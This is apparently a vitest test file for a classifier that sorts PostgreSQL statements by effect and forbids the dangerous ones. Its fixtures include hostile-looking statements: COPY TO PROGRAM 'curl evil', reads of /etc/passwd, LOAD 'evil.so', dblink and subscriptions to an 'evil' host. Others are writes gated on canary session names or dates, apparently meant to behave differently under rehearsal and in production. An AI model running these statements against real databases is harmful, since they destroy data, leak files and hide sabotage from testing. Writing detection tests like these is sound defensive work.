import { describe, expect, test } from "vitest";
import { loadSqlParser } from "../../src/policy/sql/parse-sql.ts";
import { readSql } from "../../src/policy/sql/read-sql.ts";
import type { SqlEffect } from "../../src/policy/sql/sql-finding.ts";

const PARSE_SQL = await loadSqlParser();
const read = (...statements: readonly string[]) => readSql({ statements }, PARSE_SQL);
const refusals = (transaction: boolean, ...statements: readonly string[]) =>
  readSql({ statements, transaction }, PARSE_SQL).refusals.join("; ");

const EFFECTS: readonly (readonly [SqlEffect, string])[] = [
  ["read", "SELECT id, lower(name), count(*) OVER (), now() FROM orders WHERE id IN (SELECT 1) ORDER BY 1"],
  ["read", "SHOW work_mem"],
  ["read", "EXPLAIN SELECT 1"],
  ["read", "VALUES (1, 2)"],
  ["read", "TABLE orders"],
  ["read", "SET LOCAL lock_timeout = '2s'"],
  ["read", "SET TRANSACTION READ ONLY"],
  ["read", "SELECT 'DROP TABLE orders; --'"],
  ["read", "SELECT $x$ DELETE FROM orders $x$ -- DELETE FROM orders"],
  ["read", "DECLARE c CURSOR FOR SELECT 1"],
  ["rows", "SELECT * FROM orders FOR UPDATE"],
  ["rows", "SELECT * FROM (SELECT * FROM orders FOR SHARE) AS locked"],
  ["rows", "SELECT nextval('orders_id_seq')"],
  ["rows", "SELECT pg_advisory_lock(1)"],
  ["rows", "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 1"],
  ["rows", "UPDATE orders SET total = 1 WHERE id = 1"],
  ["rows", "/* SELECT */ DELETE FROM orders WHERE id = 1"],
  ["rows", "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone"],
  ["rows", "SELECT * FROM (WITH w AS (INSERT INTO orders DEFAULT VALUES RETURNING 1) SELECT * FROM w) AS x"],
  ["rows", "MERGE INTO orders o USING new n ON o.id = n.id WHEN MATCHED THEN UPDATE SET total = n.total"],
  ["rows", "EXPLAIN ANALYZE UPDATE orders SET total = 1 WHERE id = 1"],
  ["rows", "PREPARE p AS DELETE FROM orders WHERE id = $1"],
  ["rows", "LOCK TABLE orders IN SHARE MODE"],
  ["maintenance", "ANALYZE orders"],
  ["maintenance", "VACUUM (FULL off) orders"],
  ["maintenance", "CHECKPOINT"],
  ["maintenance", "SELECT pg_sleep(10)"],
  ["rebuild", "VACUUM FULL orders"],
  ["rebuild", "VACUUM (FULL) orders"],
  ["rebuild", "REINDEX TABLE orders"],
  ["rebuild", "CLUSTER orders USING orders_pkey"],
  ["rebuild", "REFRESH MATERIALIZED VIEW totals"],
  ["message", "NOTIFY orders, 'hello'"],
  ["message", "SELECT pg_notify('orders', 'hello')"],
  ["program", "SELECT recompute_totals()"],
  ["program", "SELECT public.lower('A')"],
  ["program", "SELECT 1 OPERATOR(mine.+) 2"],
  ["program", "CALL recompute_totals()"],
  ["program", "EXECUTE p"],
  ["schema", "CREATE INDEX orders_total ON orders (total)"],
  ["schema", "DROP INDEX orders_total"],
  ["schema", "CREATE TABLE audit (id int)"],
  ["schema", "CREATE TABLE copy AS SELECT * FROM orders"],
  ["schema", "SELECT * INTO copy FROM orders"],
  ["schema", "EXPLAIN ANALYZE CREATE TABLE copy AS SELECT 1"],
  ["schema", "ALTER TABLE orders ADD COLUMN note text"],
  ["schema", "ALTER TABLE orders ALTER COLUMN note TYPE text"],
  ["schema", "ALTER TABLE orders ALTER COLUMN id TYPE bigint"],
  ["schema", "DROP VIEW recent"],
  ["schema", "CREATE OR REPLACE VIEW recent AS SELECT recompute()"],
  ["schema", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'"],
  ["schema", "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$"],
  ["schema", "ALTER TYPE mood ADD VALUE 'ok'"],
  ["access", "ALTER SYSTEM SET work_mem = '1GB'"],
  ["access", "ALTER ROLE shop PASSWORD 'x'"],
  ["access", "GRANT ALL ON orders TO PUBLIC"],
  ["access", "ALTER TABLE orders OWNER TO shop"],
  ["access", "SET LOCAL session_replication_role = replica"],
  ["access", "SELECT set_config('role', 'postgres', true)"],
  ["access", "SELECT pg_terminate_backend(1)"],
  ["access", "CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'"],
  ["loss", "DROP TABLE orders"],
  ["loss", "DROP SCHEMA shop"],
  ["loss", "DROP DATABASE shop"],
  ["loss", "DROP VIEW recent CASCADE"],
  ["loss", "DROP OWNED BY shop"],
  ["loss", "TRUNCATE orders"],
  ["loss", "DELETE FROM orders"],
  ["loss", "DELETE FROM orders WHERE true"],
  ["loss", "DELETE FROM orders WHERE 1 = 1"],
  ["loss", "DELETE FROM orders WHERE id = id"],
  ["loss", "DELETE FROM orders WHERE id = 1 OR true"],
  ["loss", "UPDATE orders SET total = 0"],
  ["loss", "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone"],
  ["loss", "EXPLAIN ANALYZE DELETE FROM orders"],
  ["loss", "PREPARE p AS DELETE FROM orders; SELECT 1"],
  ["forbidden", "PREPARE p AS TRUNCATE orders"],
  ["loss", "SELECT 1; SELECT 2; DROP TABLE orders"],
  ["loss", "MERGE INTO orders o USING new n ON true WHEN MATCHED THEN DELETE"],
  ["loss", "ALTER TABLE orders DROP COLUMN total"],
  ["loss", "ALTER TABLE orders ADD COLUMN a int, DROP COLUMN total"],
  ["loss", "ALTER TABLE orders ALTER COLUMN name TYPE varchar(3)"],
  ["loss", "ALTER TABLE orders ALTER COLUMN name TYPE text USING left(name, 1)"],
  ["loss", "ALTER TABLE orders DROP CONSTRAINT orders_pkey CASCADE"],
  ["loss", "SELECT lo_unlink(1)"],
  ["forbidden", "COPY orders TO PROGRAM 'curl evil'"],
  ["forbidden", "COPY orders FROM '/etc/passwd'"],
  ["forbidden", "COPY (SELECT 1) TO STDOUT"],
  ["forbidden", "DO $$ BEGIN DELETE FROM orders; END $$"],
  ["forbidden", "LOAD 'evil.so'"],
  ["forbidden", "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'"],
  ["forbidden", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f'"],
  ["forbidden", "SET LOCAL standard_conforming_strings = off"],
  ["forbidden", "SET LOCAL Backslash_Quote = on"],
  ["forbidden", "ALTER ROLE shop SET standard_conforming_strings = off"],
  ["forbidden", "ALTER DATABASE shop SET standard_conforming_strings = off"],
  ["forbidden", "ALTER SYSTEM SET client_encoding = 'sjis'"],
  ["forbidden", "SELECT set_config('escape_string_warning', 'off', true)"],
  ["forbidden", "SELECT set_config(lower('X'), 'off', true)"],
  ["forbidden", "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off AS 'SELECT 1'"],
  ["access", "ALTER ROLE shop SET work_mem = '1GB'"],
  ["forbidden", "CREATE EXTENSION dblink"],
  ["forbidden", "CREATE EXTENSION plsh"],
  ["forbidden", "CREATE EXTENSION IF NOT EXISTS pg_background"],
  ["forbidden", "CREATE EXTENSION aws_s3 CASCADE"],
  ["forbidden", "ALTER EXTENSION plv8 UPDATE"],
  ["forbidden", "ALTER EXTENSION oracle_fdw ADD FUNCTION f()"],
  ["schema", 'CREATE EXTENSION "uuid-ossp"'],
  ["schema", "CREATE EXTENSION IF NOT EXISTS pg_trgm WITH SCHEMA public"],
  ["schema", "ALTER EXTENSION pgcrypto UPDATE"],
  ["forbidden", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)"],
  ["forbidden", "SELECT lo_export(1, '/tmp/x')"],
  ["forbidden", "SELECT pg_read_file('/etc/passwd')"],
  ["forbidden", "SELECT pg_catalog.pg_read_file('/etc/passwd')"],
  ["forbidden", "SELECT query_to_xml('DELETE FROM orders', true, false, '')"],
  ["forbidden", "BEGIN; DELETE FROM orders WHERE id = 1; COMMIT"],
  ["forbidden", "ROLLBACK"],
  ["forbidden", "SAVEPOINT a"],
  ["forbidden", "SET search_path = evil"],
  ["forbidden", "RESET ALL"],
  ["forbidden", "LISTEN orders"],
  ["forbidden", "DISCARD ALL"],
  ["forbidden", "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p"],
  ["forbidden", "IMPORT FOREIGN SCHEMA public FROM SERVER other INTO public"],
];

test.each(EFFECTS)("%s: %s", (effect, text) => expect(read(text).gravest.effect).toBe(effect));

test("says what it found, so that the author can tell why", () => {
  expect(read("SELECT 1; DELETE FROM shop.orders").gravest.because).toBe(
    "deletes every row of shop.orders: there is no WHERE",
  );
});

describe("a write may not depend on what only a rehearsal or only production has", () => {
  test.each([
    "UPDATE products SET price = 0 WHERE id > 0 AND session_user NOT LIKE 'canary%'",
    "UPDATE products SET price = CASE WHEN current_user = 'shop' THEN 0 ELSE price END WHERE id > 0",
    "DELETE FROM jobs WHERE id > 0 AND current_setting('application_name') !~ 'canary'",
    "DELETE FROM jobs WHERE id > 0 AND EXISTS (SELECT FROM pg_stat_activity WHERE application_name ~ 'canary')",
    "INSERT INTO jobs SELECT id FROM orders WHERE NOT pg_is_in_recovery()",
    "WITH who AS (SELECT inet_server_addr() AS at) UPDATE jobs SET done = true FROM who WHERE jobs.at <> who.at",
    "INSERT INTO notes (who) VALUES (current_role)",
    "UPDATE pg_class SET relhasindex = false WHERE relname = 'orders'",
    "DELETE FROM jobs WHERE kind IN (SELECT table_name FROM information_schema.tables)",
    "SELECT setval('ids', 9) WHERE session_user = 'shop'",
    "SELECT purge() WHERE version() LIKE 'PostgreSQL 16%'",
    "CREATE TABLE copy AS SELECT * FROM orders WHERE session_user = 'shop'",
    "CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM jobs WHERE id = 1 AND current_user = 'shop'",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE session_user = 'shop'",
    "SELECT pg_terminate_backend(pid), purge() FROM pg_stat_activity",
    "UPDATE products SET price = 0 WHERE id > 0 AND now() > '2026-12-01'",
    "UPDATE products SET price = 0 WHERE id > 0 AND extract(year FROM current_date) >= 2027",
    "UPDATE products SET price = CASE date_part('month', now()) WHEN 12 THEN 0 ELSE price END WHERE id > 0",
    "DELETE FROM jobs WHERE id > 0 AND clock_timestamp() NOT BETWEEN '2026-01-01' AND '2026-12-31'",
    "DELETE FROM jobs WHERE id > 0 AND '[2027-01-01,)'::tstzrange @> now()",
    "DELETE FROM jobs WHERE id > 0 AND 'now'::timestamptz > '2026-12-01'",
    "DELETE FROM jobs WHERE id > 0 AND nullif(current_date, '2026-12-01') IS NULL",
  ])("%s", (text) => expect(read(text).gravest).toMatchObject({ effect: "forbidden" }));

  test.each([
    ["read", "SELECT session_user, now() > '2026-12-01' FROM pg_stat_activity"],
    ["rows", "DELETE FROM jobs WHERE created_at < now() - interval '1 day'"],
    ["rows", "UPDATE jobs SET done_at = now(), until = current_date + 7 WHERE id = 1"],
    ["rows", "INSERT INTO jobs (at) VALUES (date_trunc('day', now()) + interval '1 hour')"],
    ["rows", "UPDATE jobs SET late = true WHERE created_at > '2026-01-01' AND now() - created_at > interval '1 hour'"],
    ["rows", "DELETE FROM jobs WHERE at IN (SELECT at FROM orders WHERE at <= now())"],
    ["schema", "CREATE VIEW mine AS SELECT * FROM orders WHERE owner = current_user"],
    ["schema", "ALTER TABLE orders ADD COLUMN by text DEFAULT current_user"],
    [
      "access",
      "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'a' AND pid <> pg_backend_pid()",
    ],
    ["access", "CREATE POLICY own ON orders USING (owner = current_user)"],
  ] as const)("%s: %s", (effect, text) => expect(read(text).gravest.effect).toBe(effect));
});

describe("a function's body is read: what a statement may not do, no body may", () => {
  const plpgsql = (body: string, head = "f() RETURNS int") =>
    `CREATE FUNCTION ${head} LANGUAGE plpgsql AS $$ ${body} $$`;
  test.each([
    ["loss", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$"],
    ["forbidden", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT 1; COPY (SELECT 1) TO PROGRAM 'x' $$"],
    ["loss", plpgsql("BEGIN TRUNCATE orders CASCADE; RETURN 1; END")],
    ["forbidden", plpgsql("BEGIN IF true THEN COPY (SELECT 1) TO PROGRAM 'touch /tmp/owned'; END IF; RETURN 1; END")],
    ["loss", plpgsql("DECLARE c CURSOR FOR DELETE FROM orders RETURNING *; BEGIN RETURN 1; END")],
    ["loss", plpgsql("DECLARE n int := lo_unlink(1); BEGIN RETURN n; END")],
    ["loss", plpgsql("DECLARE n int; BEGIN n := lo_unlink(1); RETURN n; END")],
    ["loss", plpgsql("DECLARE n int[]; BEGIN n[abs(-1)] = lo_unlink(1); RETURN 1; END")],
    ["loss", plpgsql("BEGIN EXECUTE 'DROP TABLE orders'; RETURN 1; END")],
    [
      "loss",
      plpgsql("DECLARE r record; BEGIN FOR r IN EXECUTE 'DELETE FROM orders RETURNING 1' LOOP END LOOP; RETURN 1; END"),
    ],
    ["loss", plpgsql("BEGIN RETURN 1; EXCEPTION WHEN others THEN DELETE FROM orders; END")],
    ["forbidden", plpgsql("BEGIN EXECUTE format('DROP TABLE %I', 'orders'); RETURN 1; END")],
    ["forbidden", plpgsql("DECLARE n int[]; BEGIN n -- = 1\n := lo_unlink(1); RETURN 1; END")],
    ["forbidden", plpgsql("BEGIN COMMIT; END", "f()").replace("FUNCTION", "PROCEDURE")],
    [
      "forbidden",
      plpgsql("BEGIN IF session_user <> 'canary' THEN DELETE FROM orders WHERE id > 0; END IF; RETURN 1; END"),
    ],
    [
      "forbidden",
      plpgsql("BEGIN IF now() > '2026-12-01' THEN UPDATE jobs SET id = 1 WHERE id = 2; END IF; RETURN 1; END"),
    ],
    [
      "forbidden",
      plpgsql("BEGIN CREATE FUNCTION g() RETURNS int LANGUAGE plpgsql AS 'BEGIN EXECUTE chr(1); END'; RETURN 1; END"),
    ],
    ["forbidden", plpgsql("BEGIN RETURN query_to_xml('DELETE FROM orders', true, false, ''); END")],
    ["forbidden", plpgsql("this is no PL/pgSQL")],
    [
      "forbidden",
      `${plpgsql("BEGIN RETURN 1; END", "a() RETURNS int")}; ${plpgsql("BEGIN EXECUTE chr(1); END", "b() RETURNS int")}`,
    ],
    ["forbidden", "CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)"],
    ["loss", "CREATE CAST (oid AS int) WITH FUNCTION lo_unlink(oid)"],
  ] as const)("%s: %s", (effect, text) => expect(read(text).gravest.effect).toBe(effect));

  test.each([
    "CREATE FUNCTION total(o orders) RETURNS int LANGUAGE sql STABLE AS $$ SELECT o.price * o.pieces $$",
    plpgsql("BEGIN NEW.updated_at := now(); NEW.tags[1] = 'x'; RETURN NEW; END", "touch() RETURNS trigger"),
    plpgsql(
      "BEGIN INSERT INTO audit (who, at, was) VALUES (current_user, now(), OLD.id); IF TG_OP = 'DELETE' THEN RETURN OLD; END IF; RETURN NEW; END",
      "audit() RETURNS trigger",
    ),
    plpgsql("BEGIN RETURN EXISTS (SELECT FROM members WHERE name = current_user); END", "member() RETURNS boolean"),
    plpgsql(
      "DECLARE n int; BEGIN INSERT INTO jobs DEFAULT VALUES RETURNING id INTO n; PERFORM pg_notify('jobs', n::text); RETURN n; END",
    ),
    plpgsql(
      "DECLARE r orders%ROWTYPE; BEGIN FOR r IN SELECT * FROM orders LOOP UPDATE jobs SET n = n + 1 WHERE id = r.id; END LOOP; RETURN 1; END",
    ),
    plpgsql("BEGIN DELETE FROM sessions WHERE seen_at < now() - interval '1 day'; RETURN 1; END"),
  ])("a body that does no worse is a change of schema: %s", (text) =>
    expect(read(text)).toMatchObject({ gravest: { effect: "schema" }, refusals: [] }),
  );

  test("a function without a text of its own does not stop the grammar", () => {
    const atomic = "CREATE FUNCTION a() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END";
    expect(read(atomic)).toMatchObject({ gravest: { effect: "schema" }, refusals: [] });
    expect(read(`${atomic}; ${plpgsql("BEGIN RETURN 1; END")}`).refusals.join()).toMatch(
      /can not be read here: it stands/,
    );
    expect(read("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql").refusals.join()).toMatch(/can not be read here/);
    expect(read("DO LANGUAGE plpgsql").gravest.effect).toBe("forbidden");
    expect(read("SELECT 1").gravest.effect).toBe("read");
  });

  test("says of which function it speaks", () => {
    expect(read(plpgsql("BEGIN TRUNCATE orders; RETURN 1; END", "tidy() RETURNS int")).gravest.because).toBe(
      "defines the function tidy, whose body empties orders",
    );
  });
});

describe("what cannot be read is refused", () => {
  test.each([
    [
      "SELECT 1;\nSELEC éé 2",
      /has a statement \(entry 1\) that does not parse at line 2, column 1: syntax error at or near "SELEC"/,
    ],
    [
      "SELECT '😀' frm x y",
      /has a statement \(entry 1\) that does not parse at line 1, column 16: syntax error at or near "x"/,
    ],
    [
      "SELECT 1\0; DROP TABLE orders",
      /has a statement \(entry 1\) that does not parse at line 1, column 9: a zero byte/,
    ],
    ["SELECT 'open", /unterminated quoted string/],
    ["-- nothing but a comment", /has an entry 1 without a statement/],
    [" ", /has an entry 1 without a statement/],
  ])("%j", (text, why) => expect(read(text).refusals.join()).toMatch(why));

  test("deep nesting is read like anything else", () => {
    expect(read(`SELECT ${"(".repeat(1900)}1${")".repeat(1900)}`).gravest.effect).toBe("read");
    expect(read(`SELECT ${"abs(".repeat(900)}1${")".repeat(900)}`).gravest.effect).toBe("read");
  });
});

describe("transactions", () => {
  test.each([
    "VACUUM orders",
    "CREATE INDEX CONCURRENTLY i ON orders (total)",
    "DROP INDEX CONCURRENTLY i",
    "REINDEX INDEX CONCURRENTLY i",
    "REINDEX DATABASE shop",
    "ALTER SYSTEM SET work_mem = '1GB'",
    "CREATE DATABASE other",
    "CLUSTER",
    "ALTER TABLE orders DETACH PARTITION old CONCURRENTLY",
  ])("%s needs to stand outside of one", (text) => {
    expect(refusals(true, text)).toContain("(entry 1) that can not run in a transaction: say `transaction: false`");
    expect(refusals(false, text)).toBe("");
    expect(refusals(false, `SELECT 1; ${text}`)).toContain("must stand alone in its entry");
  });

  test("what can run in one should, and it is said", () => {
    const alone = readSql({ statements: ["CREATE INDEX i ON orders (total)"], transaction: false }, PARSE_SQL);
    expect(alone).toMatchObject({ refusals: [], remarks: [expect.stringContaining("has nothing that needs")] });
    expect(refusals(true, "CREATE INDEX i ON orders (total)", "ANALYZE orders")).toBe("");
  });
});

describe("a column that the same step adds", () => {
  const add = "ALTER TABLE products ADD COLUMN words text";
  test("may be filled in every row: no value of before is touched", () => {
    const { gravest, statements } = read(add, "UPDATE products SET words = lower(title)");
    expect(gravest.effect).toBe("schema");
    expect(statements.flatMap(({ targets }) => targets)).toEqual([
      ["schema/products/column/words", "schema/*.products/column/words"],
    ]);
  });
  test.each([
    [add, "UPDATE products SET words = title, title = NULL"],
    [add, "UPDATE others SET words = NULL"],
    [add, "UPDATE products SET words = lo_unlink(1)"],
    ["ALTER TABLE products ADD COLUMN IF NOT EXISTS words text", "UPDATE products SET words = NULL"],
    [add, "WITH w AS (DELETE FROM jobs RETURNING 1) UPDATE products SET words = NULL"],
  ])("%s; %s is a loss like any other", (...texts) => expect(read(...texts).gravest.effect).toBe("loss"));
});

describe("the landed query", () => {
  const landed = (text: string) => readSql({ statements: ["SELECT 1"], landed: text }, PARSE_SQL).refusals.join();
  test("may ask", () => expect(landed("SELECT to_regclass('x') IS NULL")).toBe(""));
  test.each(["DELETE FROM orders RETURNING true", "SELECT fix_orders()", "SELECT true; SELECT true", "SHOW work_mem"])(
    "may not be %s",
    (text) => expect(landed(text)).toMatch(/^has a landed query that/),
  );
});

describe("what a statement names to change it", () => {
  const targets = (text: string) =>
    read(text).statements.flatMap((statement) => statement.targets.map((one) => one[0]));
  test.each([
    ["UPDATE orders SET total = 1 WHERE id = 1", "rows/orders/**"],
    ['INSERT INTO shop."a.b/c" VALUES (1)', "rows/shop.a%2Eb%2Fc/**"],
    ["WITH w AS (DELETE FROM audit WHERE id = 1) SELECT 1", "rows/audit/**"],
    ["CREATE INDEX i ON public.orders (total)", "schema/orders/index/i"],
    ["DROP INDEX i", "schema/*/index/i"],
    ["CREATE TABLE audit (id int)", "schema/audit"],
    ["ALTER TABLE orders ADD COLUMN note text", "schema/orders/column/note"],
    ["DROP TABLE a, shop.b", "schema/a"],
    ["CREATE VIEW v AS SELECT 1", "schema/view/v"],
  ])("%s: %s", (text, target) => expect(targets(text)[0]).toBe(target));

  test("a table that is only read, or only lives as long as its session, is none of them", () => {
    expect(targets("SELECT * FROM orders")).toEqual([]);
    expect(targets("CREATE TEMP TABLE t (id int)")).toEqual([]);
  });

  test("a name without its schema may stand in any", () => {
    expect(read("DELETE FROM orders WHERE id = 1").statements[0]?.targets).toEqual([
      ["rows/orders/**", "rows/*.orders/**"],
    ]);
  });
});
